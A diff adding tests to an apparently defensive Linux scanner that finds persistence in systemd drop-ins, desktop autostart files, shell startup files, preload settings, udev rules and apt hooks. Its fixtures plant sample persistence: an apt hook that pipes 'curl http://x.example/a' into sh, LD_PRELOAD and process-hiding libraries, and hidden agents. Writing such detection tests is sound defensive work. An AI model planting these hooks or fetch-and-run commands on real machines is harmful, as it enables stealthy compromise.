@@ -108,8 +108,8 @@ def test_autostart_entries(disk):
         ("xdg-autostart", "update-notifier.desktop", "alex", "/tmp/.x11/upd", True),
         ("xdg-autostart", "slack.desktop", "sam", "/usr/bin/slack", False),
         ("systemd-user", "journal.service", "sam", "/home/sam/.cache/systemd-journald", True),
-        ("cron", "cd", "root", "cd", True),              # "cd / && run-parts …": the first program
-        ("cron", "test", "root", "test", True),
+        ("cron", "run-parts", "root", "run-parts", True),    # "cd / && run-parts …": what runs, not cd
+        ("cron", "e2scrub_all_cron", "root", "/usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron", True),
         ("cron", "agent", "alex", "/home/alex/.local/share/.sys/agent", True),
         ("cron-script", "logrotate", None, "/etc/cron.daily/logrotate", True),
         ("shell-startup", "w", "sam", "/home/sam/.config/.watch/w", True),
@@ -213,3 +213,179 @@ def test_the_parsers_take_any_text(text):
     parse_crontab(text, with_user=False)
     parse_dpkg_status(text)
     background_commands(text)
+
+
+# -- start-ups as the OS reads them ------------------------------------------------------------
+REAL = Path(__file__).parent / "data" / "debian-remote-access" / "files"
+
+
+def autostart_of(root: Path) -> dict:
+    records, notes = collect(LinuxAutostartSource(), Machine.offline(str(root), "linux"))
+    return {(r.kind, r.name, r.user): r for r in records}
+
+
+def services_of(root: Path) -> dict:
+    records, _ = collect(LinuxServicesSource(), Machine.offline(str(root), "linux"))
+    return {r.name: r for r in records}
+
+
+def test_drop_ins_change_what_a_unit_runs(tmp_path):
+    """The real xrdp.service from Debian, with drop-ins: the last ExecStart= wins, an empty one
+    resets; a drop-in in /etc hides the same file name in /usr/lib; type-wide service.d counts."""
+    root = tmp_path / "disk"
+    put(root, "/lib/systemd/system/xrdp.service", (REAL / "xrdp/lib/systemd/system/xrdp.service").read_bytes())
+    assert services_of(root)["xrdp.service"].executable == "/usr/sbin/xrdp"
+    put(root, "/usr/lib/systemd/system/xrdp.service.d/10-vendor.conf", "[Service]\nExecStart=\nExecStart=/usr/sbin/xrdp --nodaemon\n")
+    put(root, "/etc/systemd/system/xrdp.service.d/override.conf",
+        "[Service]\nExecStart=\nExecStart=env LD_PRELOAD=/tmp/.h/l.so nohup /tmp/.x/agent --quiet\n")
+    put(root, "/etc/systemd/system/xrdp.service.d/10-vendor.conf", "# emptied by the admin\n")
+    got = services_of(root)["xrdp.service"]
+    assert got.executable == "/tmp/.x/agent" and got.command.startswith("env LD_PRELOAD")
+    put(root, "/etc/systemd/system/xrdp.service.d/zz.conf", "[Service]\nExecStart=\n")
+    assert services_of(root)["xrdp.service"].executable == "/usr/share/xrdp/socksetup"   # reset: its ExecStartPre
+    (root / "etc/systemd/system/xrdp.service.d/zz.conf").unlink()
+    (root / "etc/systemd/system/xrdp.service.d/override.conf").unlink()
+    put(root, "/etc/systemd/system/service.d/50-all.conf", "[Service]\nExecStart=/opt/everything\n")
+    assert services_of(root)["xrdp.service"].executable == "/opt/everything"
+
+
+def test_linked_masked_and_aliased_units(tmp_path):
+    root = tmp_path / "disk"
+    put(root, "/opt/agent/agent.service", "[Service]\nExecStart=/opt/agent/bin/agent\n[Install]\nWantedBy=multi-user.target\n")
+    link(root, "/etc/systemd/system/agent.service", "/opt/agent/agent.service")            # systemctl link
+    link(root, "/etc/systemd/system/multi-user.target.wants/agent.service", "/opt/agent/agent.service")
+    put(root, "/lib/systemd/system/veyon.service", (REAL / "veyon-service/lib/systemd/system/veyon.service").read_bytes())
+    link(root, "/etc/systemd/system/veyon.service", "/dev/null")                              # masked
+    put(root, "/lib/systemd/system/ssh.service", "[Service]\nExecStart=/usr/sbin/sshd -D\n[Install]\nWantedBy=multi-user.target\n")
+    link(root, "/etc/systemd/system/sshd.service", "/lib/systemd/system/ssh.service")          # an alias
+    got = services_of(root)
+    assert got["agent.service"].executable == "/opt/agent/bin/agent" and got["agent.service"].start == "enabled"
+    assert got["veyon.service"].start == "masked" and got["veyon.service"].executable is None
+    assert "sshd.service" not in got and got["ssh.service"].executable == "/usr/sbin/sshd"
+
+
+def test_user_units_in_every_user_path(tmp_path):
+    root = tmp_path / "disk"
+    (root / "home/alex").mkdir(parents=True)
+    put(root, "/home/alex/.local/share/systemd/user/sync.service", "[Service]\nExecStart=/home/alex/.local/bin/sync\n")
+    link(root, "/home/alex/.config/systemd/user/default.target.wants/sync.service", "../../../../.local/share/systemd/user/sync.service")
+    put(root, "/home/alex/.config/systemd/user/sync.service.d/x.conf", "[Service]\nExecStart=\nExecStart=sh -c 'exec /dev/shm/.s/run'\n")
+    put(root, "/usr/lib/systemd/user/gnome-remote-desktop.service",
+        (REAL / "gnome-remote-desktop/usr/lib/systemd/user/gnome-remote-desktop.service").read_bytes())
+    link(root, "/home/alex/.config/systemd/user/gnome-session.target.wants/gnome-remote-desktop.service",
+         "/usr/lib/systemd/user/gnome-remote-desktop.service")
+    put(root, "/usr/share/systemd/user/helper.service", "[Service]\nExecStart=/usr/libexec/helper\n")
+    link(root, "/etc/systemd/user/default.target.wants/helper.service", "/usr/share/systemd/user/helper.service")
+    got = autostart_of(root)
+    assert got[("systemd-user", "sync.service", "alex")].executable == "/dev/shm/.s/run"
+    assert got[("systemd-user", "sync.service", "alex")].enabled is True
+    grd = got[("systemd-user", "gnome-remote-desktop.service", "alex")]
+    assert grd.executable == "/usr/libexec/gnome-remote-desktop-daemon" and grd.enabled
+    assert got[("systemd-user", "helper.service", None)].executable == "/usr/libexec/helper"
+
+
+def test_desktop_files_follow_glib_and_the_autostart_spec(tmp_path):
+    root = tmp_path / "disk"
+    (root / "home/alex").mkdir(parents=True)
+    put(root, "/etc/xdg/autostart/a.desktop", "[Desktop Entry]\nName=A\nExec=/usr/bin/a\nExec=/tmp/.a/real %U\n"
+                                                "[Desktop Action x]\nExec=/usr/bin/not-this\n")
+    put(root, "/etc/xdg/autostart/b.desktop", "[Desktop Entry]\nExec=/usr/bin/b\nHidden=true\nHidden=false\n")
+    put(root, "/etc/xdg/autostart/c.desktop", "[Desktop Entry]\nExec=/usr/bin/c\nX-GNOME-Autostart-enabled=false\n")
+    put(root, "/etc/xdg/autostart/d.desktop", "[Desktop Entry]\nExec=/usr/bin/d\n")
+    put(root, "/home/alex/.config/autostart/d.desktop", "[Desktop Entry]\nExec=/usr/bin/d\nHidden=true\n")
+    put(root, "/etc/xdg/xdg-ubuntu/autostart/e.desktop",
+        "[Desktop Entry]\nExec=env GDK_BACKEND=x11 bash -c \"sleep 3; nohup setsid /opt/e/agent &\"\nOnlyShowIn=GNOME;\n")
+    got = autostart_of(root)
+    assert got[("xdg-autostart", "a.desktop", None)].executable == "/tmp/.a/real"       # the last Exec=
+    assert got[("xdg-autostart", "b.desktop", None)].enabled is True                   # the last Hidden=
+    assert got[("xdg-autostart", "c.desktop", None)].enabled is False
+    assert got[("xdg-autostart", "d.desktop", "alex")].enabled is False                # the person's copy hides it
+    assert ("xdg-autostart", "d.desktop", None) not in got
+    e = got[("xdg-autostart", "e.desktop", None)]
+    assert e.executable == "/opt/e/agent" and "OnlyShowIn=GNOME;" in e.command
+
+
+def test_shell_files_environment_and_preload(tmp_path):
+    root = tmp_path / "disk"
+    (root / "home/alex").mkdir(parents=True)
+    put(root, "/home/alex/.bashrc", "[ -x /home/alex/.k/k ] && nohup /home/alex/.k/k >/dev/null 2>&1 &\n"
+                                    "pgrep -x w >/dev/null || (/home/alex/.cache/w &)\n"
+                                    "export LD_PRELOAD=/home/alex/.l/hook.so\nalias ll='ls -l'\n")
+    put(root, "/etc/environment", 'PATH="/usr/bin"\nLD_PRELOAD="/usr/lib/libsnoop.so"\n')
+    put(root, "/etc/profile.d/zz.sh", "setsid /usr/local/bin/zz &\n")
+    put(root, "/etc/ld.so.preload", "/lib/x86_64-linux-gnu/libprocesshider.so\n")
+    got = autostart_of(root)
+    programs = {(k[0], r.executable) for k, r in got.items()}
+    assert ("shell-startup", "/home/alex/.k/k") in programs
+    assert ("shell-startup", "/home/alex/.cache/w") in programs
+    assert ("shell-startup", "/usr/local/bin/zz") in programs
+    assert {r.executable for k, r in got.items() if k[0] == "preload"} == {
+        "/home/alex/.l/hook.so", "/usr/lib/libsnoop.so", "/lib/x86_64-linux-gnu/libprocesshider.so"}
+
+
+def test_udev_motd_generators_dispatcher_and_apt_hooks(tmp_path):
+    root = tmp_path / "disk"
+    put(root, "/etc/udev/rules.d/99-usb.rules",
+        'ACTION=="add", SUBSYSTEM=="usb", RUN+="/bin/sh -c \'/opt/.u/grab $devnode\'"\n'
+        'ACTION=="add", RUN{builtin}+="kmod load $env{MODALIAS}"\nKERNEL=="x", RUN+="helper-prog"\n')
+    put(root, "/etc/update-motd.d/99-x", "#!/bin/sh\n/opt/x\n")
+    put(root, "/etc/systemd/system-generators/evil-generator", "#!/bin/sh\n")
+    put(root, "/etc/NetworkManager/dispatcher.d/90-up", "#!/bin/sh\n")
+    put(root, "/etc/apt/apt.conf.d/99hook",
+        'APT::Update::Pre-Invoke {"/usr/bin/curl -s http://x.example/a | sh";};\n'
+        '// DPkg::Post-Invoke {"commented";};\nDPkg::Post-Invoke { "/opt/.p/post"; "true"; };\n')
+    got = autostart_of(root)
+    kinds = {(k[0], r.executable) for k, r in got.items()}
+    assert ("udev-rule", "/opt/.u/grab") in kinds and ("udev-rule", "/usr/lib/udev/helper-prog") in kinds
+    assert not any("kmod" in (r.command or "") for k, r in got.items() if k[0] == "udev-rule")
+    assert ("motd", "/etc/update-motd.d/99-x") in kinds
+    assert ("systemd-generator", "/etc/systemd/system-generators/evil-generator") in kinds
+    assert ("network-dispatcher", "/etc/NetworkManager/dispatcher.d/90-up") in kinds
+    assert ("apt-hook", "/usr/bin/curl") in kinds and ("apt-hook", "/opt/.p/post") in kinds
+    assert not any("commented" in r.command for k, r in got.items() if k[0] == "apt-hook")
+
+
+def test_a_planted_override_of_a_system_service_is_a_finding(tmp_path):
+    root = tmp_path / "disk"
+    put(root, "/lib/systemd/system/cups.service", "[Service]\nExecStart=/usr/sbin/cupsd -l\n[Install]\nWantedBy=multi-user.target\n")
+    link(root, "/etc/systemd/system/multi-user.target.wants/cups.service", "/lib/systemd/system/cups.service")
+    put(root, "/etc/systemd/system/cups.service.d/override.conf", "[Service]\nExecStart=\nExecStart=/dev/shm/.c/cupsd\n")
+    result = run_scan(signatures=load_set(), machine=Machine.offline(str(root), "linux"))
+    assert any(f.heuristic and f.evidence[0].record.name == "cups.service" for f in result.findings)
+
+
+def test_wrappers_are_taken_off():
+    from checks.sources.commands import real_program
+    assert real_program("env A=1 nohup setsid /opt/x/agent --quiet") == "/opt/x/agent"
+    assert real_program("sh -c \"exec /tmp/.x/run >/dev/null 2>&1\"") == "/tmp/.x/run"
+    assert real_program("bash -lc 'cd /opt && ./agent &'") == "./agent"
+    assert real_program("nice -n 10 ionice -c3 /usr/bin/x11vnc -forever") == "/usr/bin/x11vnc"
+    assert real_program("exec nohup /a/b &") == "/a/b"
+    assert real_program("/usr/bin/x11vnc") == "/usr/bin/x11vnc"
+
+
+def test_desktop_parsing_stops_at_the_entry_and_dpkg_is_read_as_bytes():
+    text = "# c\n[Desktop Entry]\nName=A\nName=B\nExec=a\\sb\n[Desktop Action new]\nName=C\nExec=c\n" + "X=y\n" * 10000
+    assert parse_desktop(text) == {"Name": "B", "Exec": "a b"}
+    assert parse_desktop("[Other]\nExec=x\n") == {}
+    status = b"Package: a\nStatus: install ok installed\nVersion: 1\nDescription: \xff\xfe\n\nPackage: b\nStatus: deinstall ok config-files\n\n"
+    assert [p["Package"] for p in parse_dpkg_status(status)] == ["a"]
+    assert [p["Package"] for p in parse_dpkg_status(status.decode("latin-1"))] == ["a"]
+
+
+def test_kde_plasma_start_scripts(tmp_path):
+    root = tmp_path / "disk"
+    put(root, "/home/alex/.config/autostart-scripts/sync.sh", "#!/bin/sh\n/home/alex/.s/agent &\n")
+    put(root, "/home/alex/.config/plasma-workspace/env/path.sh", "export X=1\n")
+    got = autostart_of(root)
+    assert got[("kde-autostart", "sync.sh", "alex")].executable == "/home/alex/.config/autostart-scripts/sync.sh"
+    assert ("kde-autostart", "path.sh", "alex") in got
+
+
+def test_a_merged_usr_folder_is_read_once(tmp_path):
+    root = tmp_path / "disk"
+    put(root, "/usr/lib/systemd/system-generators/g", "#!/bin/sh\n")
+    put(root, "/usr/lib/udev/rules.d/50-x.rules", 'RUN+="/usr/bin/x"\n')
+    os.symlink("usr/lib", root / "lib")
+    records, _ = collect(LinuxAutostartSource(), Machine.offline(str(root), "linux"))
+    assert sorted(r.kind for r in records if r.kind in ("systemd-generator", "udev-rule")) == ["systemd-generator", "udev-rule"]
